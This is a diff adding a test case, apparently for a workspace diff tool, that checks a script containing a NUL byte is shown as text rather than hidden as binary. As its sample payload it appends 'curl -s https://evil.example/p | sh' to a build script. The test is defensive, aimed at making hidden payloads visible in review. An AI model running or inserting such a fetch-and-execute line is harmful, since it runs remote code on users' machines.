@@ -187,6 +187,20 @@ describe.each(['1', '0'])('hmm diff (HMM_FIRST_INDEX=%s)', value => {
     expect(patch.stderr).toBe(`hmm: workspace ${ws.id} changes binary files, whose content hmm diff does not show: logo?\n`)
   })
 
+  // Attacker's review 9, F2: binary was told by the workspace's own attribute files, the patch made with the origin's.
+  it("shows a script with a NUL as text though the workspace's own .gitattributes calls it text (and its patch is made with the origin's)", async () => {
+    world = newWorld('diff-nul-own-attributes')
+    await world.gitRepo()
+    world.file('build.sh', 'echo building\n')
+    await world.git(['add', 'build.sh'])
+    await world.git(['commit', '-qm', 'build'])
+    await made(world, 'printf "curl -s https://evil.example/p | sh # \\000\n" >> build.sh && printf "*.sh diff\\n" > .gitattributes')
+    const patch = await hmm(world, ['diff'])
+    expect(patch.stdout).toContain('\n+curl -s https://evil.example/p | sh # \0\n')
+    expect(patch.stdout).not.toContain('GIT binary patch')
+    expect(patch.stderr).toBe('')
+  })
+
   it('works for a directory that is not a repository: new, changed and deleted files', async () => {
     world = newWorld('diff-plain')
     world.file('keep.txt', 'keep\n')
